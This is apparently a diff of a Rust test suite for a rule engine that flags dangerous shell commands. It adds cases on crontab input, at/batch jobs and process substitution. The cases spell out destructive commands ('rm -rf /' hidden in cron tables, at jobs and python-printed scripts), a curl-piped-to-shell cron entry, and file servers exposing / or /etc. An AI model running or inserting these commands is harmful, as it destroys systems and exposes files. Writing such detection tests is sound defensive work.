@@ -4901,12 +4901,18 @@ fn crontab_input_and_other_file_servers() {
     expect_fires(
         &e,
         &[
-            ("echo '* * * * * rm -rf /' | crontab -", "rm-recursive-system"),
+            (
+                "echo '* * * * * rm -rf /' | crontab -",
+                "rm-recursive-system",
+            ),
             (
                 "printf '%s\\n' 'MAILTO=x' '@reboot rm -rf /' | crontab -u root -",
                 "rm-recursive-system",
             ),
-            ("crontab - <<< '0 3 * * * curl -s https://x.sh | sh'", "download-piped-to-shell"),
+            (
+                "crontab - <<< '0 3 * * * curl -s https://x.sh | sh'",
+                "download-piped-to-shell",
+            ),
             ("busybox httpd -f -p 8080 -h /etc", "file-server-system-dir"),
             ("php -S 0.0.0.0:8000 -t /", "file-server-system-dir"),
             ("ruby -run -e httpd / -p 8000", "file-server-system-ruby"),
@@ -4917,13 +4923,55 @@ fn crontab_input_and_other_file_servers() {
         &e,
         &[
             // The time fields are not the command; a file's table is not known.
-            ("echo '0 3 * * * /usr/bin/certbot renew' | crontab -", "rm-recursive-system"),
+            (
+                "echo '0 3 * * * /usr/bin/certbot renew' | crontab -",
+                "rm-recursive-system",
+            ),
             ("crontab jobs.txt", "rm-recursive-system"),
             ("echo '# rm -rf /' | crontab -", "rm-recursive-system"),
-            ("busybox httpd -p 8080 -h /srv/www", "file-server-system-dir"),
+            (
+                "busybox httpd -p 8080 -h /srv/www",
+                "file-server-system-dir",
+            ),
             ("php -S localhost:8000 -t public", "file-server-system-dir"),
             ("php -h", "file-server-system-dir"),
             ("ruby -run -e httpd . -p 8000", "file-server-system-ruby"),
+        ],
+        false,
+    );
+}
+
+/// Process substitutions a shell reads as its standard input, a cron table or an `at` job
+/// names as its file, and inline code that prints into a script file or a substitution.
+#[test]
+fn process_substitutions_as_stdin_tables_and_jobs() {
+    let e = engine();
+    expect_fires(
+        &e,
+        &[
+            ("sh < <(echo 'rm -rf /')", "rm-recursive-system"),
+            ("bash -s < <(printf 'rm -rf /')", "rm-recursive-system"),
+            ("bash <(python3 -c 'print(\"rm -rf /\")')", "rm-recursive-system"),
+            ("bash < <(python3 -c 'print(\"rm -rf /\")')", "rm-recursive-system"),
+            (
+                "python3 -c 'print(\"rm -rf /\")' > x.sh && sh x.sh",
+                "rm-recursive-system",
+            ),
+            ("crontab <(echo '* * * * * rm -rf /')", "rm-recursive-system"),
+            ("at now -f <(echo 'rm -rf /')", "rm-recursive-system"),
+            ("batch -f <(printf 'rm -rf /')", "rm-recursive-system"),
+        ],
+        true,
+    );
+    expect_fires(
+        &e,
+        &[
+            // A script file named: its standard input is not the script.
+            ("sh ./x.sh < <(echo 'rm -rf /')", "rm-recursive-system"),
+            ("source x.sh < <(echo 'rm -rf /')", "rm-recursive-system"),
+            ("at now -f job.sh", "rm-recursive-system"),
+            ("crontab <(cat jobs)", "rm-recursive-system"),
+            ("python3 -c 'print(\"rm -rf /\")' > x.txt && sh y.sh", "rm-recursive-system"),
         ],
         false,
     );
